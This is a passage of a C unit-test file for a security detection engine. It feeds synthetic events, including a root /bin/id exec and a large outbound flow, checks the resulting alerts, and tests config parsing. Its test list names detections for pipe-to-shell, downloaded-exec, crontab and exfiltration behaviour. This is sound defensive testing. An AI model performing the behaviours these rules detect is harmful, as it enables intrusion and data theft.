	feed(d, ENV(5, "session.create") ",\"user_id\":\"alice\"}");
	feed(d, ENV(6, "process.exec") ",\"pid\":7,\"ppid\":1,\"uid\":0,\"euid\":0,"
		"\"cmd\":\"/bin/id\",\"args\":[]}");
	feed(d, ENV(7, "net.connect") ",\"dst\":");
	feed(d, "{\"seq\":8,\"event\":\"net.flow\"," TS("02.0") ",\"session_id\":\"s\"}");
	detect_get_stats(d, &st);
	assert_int_equal(st.lines, 8);
	assert_int_equal(st.unread, 4);
	assert_int_equal(st.bad_lines, 1);
	assert_int_equal(count("root-in-nonroot-session"), 1);
	detect_free(d);

	d = engine("rules:\n  - id: big-flow\n    severity: low\n    events: net.flow\n"
		   "    condition: {bytes_out: {gt: 1000}}\n    summary: \"{bytes_out}\"\n",
		   NULL, 100);
	feed(d, flow_line);
	detect_get_stats(d, &st);
	assert_int_equal(st.unread, 0);
	assert_int_equal(count("big-flow"), 1);
	assert_string_equal(find("big-flow")->summary, "5000");
	detect_free(d);
}

static void test_config_section(void **state)
{
	static const char ok[] = "detection:\n  enabled: false\n  rules: [/a, /b/c.yaml]\n"
				 "  rate_limit: 3\n  rate_interval: 5m\n";
	static const char bad[] = "detection:\n  rules: [relative/x]\n  rate_interval: 1ms\n"
				  "  colour: x\n";
	struct config_errors e = CONFIG_ERRORS_INIT;
	struct sg_config *c = config_default();
	bool lines[5] = { false };

	(void)state;
	assert_non_null(c);
	assert_true(c->detect.enabled);
	assert_true(c->detect.rules_default);
	assert_int_equal(c->detect.n_rules, 1);
	assert_int_equal(c->detect.rate_limit, 10);
	assert_int_equal(c->detect.rate_interval_ms, 60000);
	config_free(c);
	assert_int_equal(config_load_buffer("t.yaml", ok, strlen(ok), &c, &e), 0);
	assert_false(c->detect.enabled);
	assert_false(c->detect.rules_default);
	assert_int_equal(c->detect.n_rules, 2);
	assert_string_equal(c->detect.rules[1], "/b/c.yaml");
	assert_int_equal(c->detect.rate_limit, 3);
	assert_int_equal(c->detect.rate_interval_ms, 300000);
	config_free(c);
	assert_int_equal(config_load_buffer("t.yaml", bad, strlen(bad), &c, &e), -EINVAL);
	for (size_t i = 0; i < config_errors_count(&e); i++)
		if (config_errors_at(&e, i)->line < 5)
			lines[config_errors_at(&e, i)->line] = true;
	assert_true(lines[2] && lines[3] && lines[4]);
	config_errors_free(&e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_load_errors),
		cmocka_unit_test(test_pipe_to_shell),
		cmocka_unit_test(test_exe_not_argv0),
		cmocka_unit_test(test_downloaded_exec),
		cmocka_unit_test(test_downloaded_exec_skew),
		cmocka_unit_test(test_crontab),
		cmocka_unit_test(test_exfiltration),
		cmocka_unit_test(test_net_rules),
		cmocka_unit_test(test_cleanup_and_rate),
		cmocka_unit_test(test_unread_types),
		cmocka_unit_test(test_config_section),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
